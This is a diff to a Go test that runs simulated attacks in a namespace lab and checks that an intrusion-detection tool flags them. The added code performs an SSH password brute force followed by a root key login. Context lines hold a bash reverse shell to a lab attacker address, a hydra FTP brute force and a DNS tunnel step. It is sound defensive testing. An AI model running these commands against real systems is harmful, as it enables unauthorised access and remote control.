@@ -47,6 +47,11 @@ func TestLiveLabTriage(t *testing.T) {
 	shell := l.Start(l.Victim.NS, "bash", "-c", fmt.Sprintf("exec bash -i >& /dev/tcp/%s/4444 0>&1", attacker))
 	time.Sleep(time.Second)
 
+	// An SSH server where root may log in with a key the attacker holds
+	// (as if stolen) and password guesses fail: a brute force that ends
+	// in a login.
+	sshKey := sshdWithKey(t, l)
+
 	steps := []struct {
 		what string
 		run  func() ([]byte, error)
@@ -68,6 +73,15 @@ func TestLiveLabTriage(t *testing.T) {
 			}
 			os.WriteFile(pw, []byte(b.String()), 0o644)
 			return l.Run(l.Attacker.NS, 60*time.Second, "hydra", "-I", "-t", "4", "-l", "admin", "-P", pw, "ftp://"+victim)
+		}},
+		{"SSH brute force, then a login", func() ([]byte, error) {
+			ssh := []string{"-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=5"}
+			for i := range 12 {
+				l.Run(l.Attacker.NS, 10*time.Second, "sshpass", append(append([]string{"-p", fmt.Sprintf("guess%03d", i), "ssh"}, ssh...),
+					"-o", "PreferredAuthentications=password", "-o", "PubkeyAuthentication=no", "-o", "NumberOfPasswordPrompts=1", "root@"+victim, "true")...)
+			}
+			return l.Run(l.Attacker.NS, 30*time.Second, "ssh", append(append([]string{"-i", sshKey}, ssh...),
+				"-o", "BatchMode=yes", "root@"+victim, "head -c 300000 /dev/zero")...)
 		}},
 		{"DNS tunnel", func() ([]byte, error) {
 			for i := range 30 {
@@ -168,5 +182,56 @@ func TestLiveLabTriage(t *testing.T) {
 	if !shellNamed {
 		t.Errorf("no port.suspicious alert in EVE names bash (the reverse shell's process)")
 	}
+	breakIn := false
+	for _, r := range recs {
+		if r.str("event_type") == "alert" && r.str("alert.metadata.rule[0]") == "bruteforce.success" && r.str("src_ip") == attacker {
+			breakIn = true
+			t.Logf("the break-in: %s %v", r.str("alert.signature"), r.get("opsdeck.process"))
+		}
+	}
+	if !breakIn {
+		t.Errorf("no bruteforce.success for the SSH login after the brute force")
+	}
 	t.Logf("attribution: %d of %d alert records about a flow ending on the victim name a process", named, withFlow)
+}
+
+// sshdWithKey starts sshd in the lab's victim on port 22 with password
+// logins allowed (every guess fails: no password is right) and root's login
+// by a key made here, whose private half it returns (for the attacker).
+func sshdWithKey(t *testing.T, l *lab.Lab) string {
+	t.Helper()
+	lab.Need(t, "sshd", "ssh-keygen", "ssh", "sshpass")
+	dir := filepath.Join(l.Dir, "sshd-key")
+	os.MkdirAll(dir, 0o755)
+	for _, k := range []string{"host", "client"} {
+		if out, err := l.Run(l.Victim.NS, 10*time.Second, "ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", filepath.Join(dir, k)); err != nil {
+			t.Fatalf("ssh-keygen: %v: %s", err, out)
+		}
+	}
+	pub, err := os.ReadFile(filepath.Join(dir, "client.pub"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	keys := filepath.Join(dir, "authorized_keys")
+	os.WriteFile(keys, pub, 0o600)
+	os.MkdirAll("/run/sshd", 0o755)
+	cfg := filepath.Join(dir, "sshd_config")
+	os.WriteFile(cfg, []byte(fmt.Sprintf(`Port 22
+ListenAddress %s
+HostKey %s
+PidFile %s
+UsePAM no
+PasswordAuthentication yes
+KbdInteractiveAuthentication no
+PermitRootLogin yes
+AuthorizedKeysFile %s
+StrictModes no
+MaxAuthTries 3
+MaxStartups 200
+LoginGraceTime 20
+LogLevel ERROR
+`, lab.VictimAddr, filepath.Join(dir, "host"), filepath.Join(dir, "sshd.pid"), keys)), 0o644)
+	l.Start(l.Victim.NS, "sshd", "-D", "-e", "-f", cfg)
+	l.WaitPort("tcp", lab.VictimAddr, 22)
+	return filepath.Join(dir, "client")
 }
